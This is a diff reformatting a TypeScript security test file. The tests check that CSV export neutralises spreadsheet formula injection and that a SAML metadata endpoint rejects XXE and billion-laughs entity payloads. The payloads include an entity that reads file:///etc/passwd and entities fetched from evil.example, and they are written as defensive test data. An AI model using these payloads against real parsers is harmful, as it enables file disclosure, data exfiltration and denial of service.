@@ -51,7 +51,17 @@ describe('Encoding', () => {
   });
 
   it('[ASVS 1.2.10] exports text a spreadsheet would run as a formula as text, each field quoted by RFC 4180', () => {
-    const descriptions = ['=HYPERLINK("https://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\0=1', '\r=1', ' =1', 'safe, "quoted"'];
+    const descriptions = [
+      '=HYPERLINK("https://evil.example","x")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\0=1',
+      '\r=1',
+      ' =1',
+      'safe, "quoted"',
+    ];
     const csv = toCsv([{ header: 'description', value: (row: string) => row }], descriptions);
     const fields = csv.split('\r\n').slice(1, -1);
     expect(fields).toEqual([
@@ -69,11 +79,17 @@ describe('Encoding', () => {
 });
 
 /** Metadata with a DOCTYPE that declares an entity: external (XXE), recursive (billion laughs) or a parameter entity. */
-const withDoctype = (doctype: string, body = '&e;') => SEED_SAML_METADATA.replace('<md:EntityDescriptor', `${doctype}<md:EntityDescriptor`).replace('</md:EntityDescriptor>', `<x>${body}</x></md:EntityDescriptor>`);
+const withDoctype = (doctype: string, body = '&e;') =>
+  SEED_SAML_METADATA.replace('<md:EntityDescriptor', `${doctype}<md:EntityDescriptor`).replace(
+    '</md:EntityDescriptor>',
+    `<x>${body}</x></md:EntityDescriptor>`,
+  );
 const ENTITY_ATTACKS = [
   withDoctype('<!DOCTYPE md [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
   withDoctype('<!DOCTYPE md [<!ENTITY e SYSTEM "https://evil.example/x">]>'),
-  withDoctype('<!DOCTYPE md [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'),
+  withDoctype(
+    '<!DOCTYPE md [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
+  ),
   withDoctype('<!DOCTYPE md [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>', 'x'),
   withDoctype('<!DOCTYPE md SYSTEM "https://evil.example/md.dtd">', 'x'),
   // No DOCTYPE, but a reference to an entity that only a DTD could define.
@@ -92,7 +108,13 @@ describe('XML', () => {
   it('[ASVS 1.5.1] the cluster refuses IdP metadata with a DOCTYPE or an entity, and stores nothing', async () => {
     const token = await loginAs(simulator, 'bootstrapuser', 'deleteme');
     for (const [index, xml] of ENTITY_ATTACKS.entries()) {
-      const response = await simulator.handle(iamRequest('PUT', `/acs/api/v1/auth/saml/providers/xxe-${index}`, token, { description: 'XXE', idp_metadata: xml, sp_base_url: 'https://cluster.example' }));
+      const response = await simulator.handle(
+        iamRequest('PUT', `/acs/api/v1/auth/saml/providers/xxe-${index}`, token, {
+          description: 'XXE',
+          idp_metadata: xml,
+          sp_base_url: 'https://cluster.example',
+        }),
+      );
       expect(response.status).toBe(400);
       expect(simulator.context.defaultDb.sso.saml.has(`xxe-${index}`)).toBe(false);
     }
